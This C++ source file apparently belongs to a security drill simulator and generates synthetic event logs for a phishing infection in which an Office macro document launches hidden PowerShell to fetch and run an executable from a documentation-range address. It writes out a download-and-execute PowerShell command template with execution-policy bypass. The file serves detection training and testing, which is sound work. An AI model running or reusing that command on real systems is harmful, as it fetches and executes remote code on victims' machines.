// SPDX-License-Identifier: EUPL-1.2
#include <fmt/format.h>

#include <array>

#include "drill/attack/attack.h"
#include "drill/vocabulary/powershell.h"

namespace beffroi::drill::attack {
namespace {

using namespace world;
using activity::Parent;

constexpr std::string_view kOffice = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
constexpr std::string_view kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

std::string attachment_name(Random& random) {
  constexpr std::array<std::string_view, 5> kSubjects = {"facture", "relance", "acte_naissance", "devis_travaux",
                                                         "convocation"};
  constexpr std::array<std::string_view, 3> kKinds = {".docm", ".doc", ".xlsm"};
  return fmt::format("{}_{}{}", random.pick(kSubjects), random.between(1000, 99999), random.pick(kKinds));
}

Parent fetch(Attack& attack, const Session& session, const Parent& office, std::string_view address, std::string_view program,
             Timestamp time) {
  const std::string script = fmt::format("(New-Object Net.WebClient).DownloadFile('http://{}/{}','{}');Start-Process '{}'",
                                         address, attack.random.word(7), program, program);
  const std::string command = fmt::format("powershell.exe -w hidden -nop -ep bypass -c \"{}\"", script);
  const Parent shell = activity::run(attack.stage, session, {std::string(kPowerShell), command}, time, office);
  const std::string guid = attack.random.guid();
  const Host& host = *session.host;
  attack.stage.log(host, time + milliseconds(510), vocabulary::engine_provider_started("Registry", command, guid));
  attack.stage.log(host, time + milliseconds(590), vocabulary::engine_state("Available", "None", command, guid));
  attack.stage.log(host, time + milliseconds(720),
                   vocabulary::script_block(session.account->sid, script, attack.random.guid(), true));
  return shell;
}

}  // namespace

Infection open_attachment(Attack& attack, const Session& session, Timestamp time) {
  const std::string& user = session.account->name;
  const std::string artefact = attachment_name(attack.random);
  const bool sheet = artefact.ends_with(".xlsm");
  const std::string mail = fmt::format("{}OUTLOOK.EXE", kOffice);
  const std::string image = fmt::format("{}{}", kOffice, sheet ? "EXCEL.EXE" : "WINWORD.EXE");
  const std::string path = fmt::format("C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}\\{}",
                                       user, attack.random.word(8), artefact);
  const Parent outlook = activity::run(attack.stage, session, {mail, fmt::format("\"{}\"", mail)}, time);
  time = attack.wait(time, 60, 400);
  const Parent office = activity::run(
      attack.stage, session, {image, fmt::format("\"{}\" {} \"{}\"", image, sheet ? "/dde" : "/n", path)}, time, outlook);
  const std::string address = fmt::format("203.0.113.{}", attack.random.between(2, 250));
  const std::string program = fmt::format("C:\\Users\\{}\\AppData\\Roaming\\{}.exe", user, attack.random.word(7));
  const Timestamp fetched = attack.wait(time, 3, 12);
  const Parent shell = fetch(attack, session, office, address, program, fetched);
  const Timestamp started = attack.wait(fetched, 3, 9);
  const Parent implant = activity::run(attack.stage, session, {program, fmt::format("\"{}\"", program)}, started, shell);
  attack.truth.command_and_control.push_back({session.host->computer, "download", address, fetched});
  return {implant, artefact, time, attack.wait(started, 20, 120)};
}

}  // namespace beffroi::drill::attack
